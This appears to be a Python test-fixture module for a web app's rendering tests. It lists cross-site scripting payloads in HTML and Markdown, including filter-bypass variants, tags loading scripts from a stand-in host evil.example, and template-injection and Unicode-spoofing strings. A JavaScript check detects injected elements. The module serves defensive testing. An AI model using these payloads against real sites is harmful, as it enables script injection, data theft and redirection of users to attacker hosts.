"""Texts that would do something on a page that took them for more than text."""

from __future__ import annotations

#: What runs where markup gets through: it leaves a trace, and asks a question that a test hears.
_RUN = "alert(document.caught=1)"

#: Short enough for a name, and each as it is: nothing of it is Markdown.
MARKUP = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f'<iframe srcdoc="<img src=x onerror={_RUN}>"></iframe>',
    f"<object data=javascript:{_RUN}></object>",
    "<embed src=//evil.example/x.swf>",
    f"<a href=javascript:{_RUN}>a</a>",
    f"<form action=javascript:{_RUN}><button>b</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    f"<math><mtext><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}",
    f'"><img src=x onerror={_RUN}>',
    "<hub-chat data-conversation=x></hub-chat>",
    "<template shadowrootmode=open><b>b</b></template>",
    "&lt;b&gt; &#60;b&#62; &amp;lt;",
    "{{7*7}} {% if 1 %} ${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d {0} {name}",
    "left \u202egnp.exe\u202c \u2066right\u2069",
    "z\u200be\u200cr\u200do\ufeff width",
    "Z\u0351\u036b\u0343a\u0317\u034el\u0320g\u0327o",
]

#: What Markdown makes links and pictures of, if it is let.
MARKDOWN = [
    f"[a](javascript:{_RUN})",
    f"[b](JaVaScRiPt:{_RUN})",
    f"[c](java&#115;cript:{_RUN})",
    f"[d](<java\tscript:{_RUN}>)",
    f"[e](data:text/html,<script>{_RUN}</script>)",
    f"[f](vbscript:{_RUN})",
    f"![g](javascript:{_RUN})",
    f'![h](x "onerror={_RUN}")',
    f'[i](https://example.org "\'><img src=x onerror={_RUN}>")',
    f"<javascript:{_RUN}>",
    f"[j]\n\n[j]: javascript:{_RUN}",
    f"```<img src=x onerror={_RUN}>\n<script>{_RUN}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f'https://example.org/"onmouseover="{_RUN}',
    "![i](https://evil.example/pixel.png)",
]

#: A word that no line has room for.
LONG_WORD = "Donaudampfschiff" * 250

#: Finds what nothing but markup from outside would make: the page's own parts have addresses.
INTRUDERS = """() => {
    const made = `iframe, frame, object, embed, applet, base, style, meta[http-equiv], math, template, video,
        audio, script:not([src^="/assets/"]), link:not([href^="/assets/"]), main svg:not([aria-hidden=true]),
        hub-chat[data-conversation=x], img:not([src^="/assets/"], [src^="/api/images/"])`;
    const isAddress = ({name}) => ['href', 'src', 'action', 'formaction'].includes(name);
    const leadsAway = ({value}) =>
        !['http:', 'https:', 'mailto:', 'blob:'].includes(new URL(value, 'https://hub.example').protocol);
    const isBad = (each) => each.name.startsWith('on') || (isAddress(each) && leadsAway(each));
    return [...document.querySelectorAll('*')]
        .filter((element) => element.matches(made) || [...element.attributes].some(isBad))
        .map((element) => element.outerHTML.slice(0, 200))
        .concat(document.caught ? ['something ran'] : []);
}"""
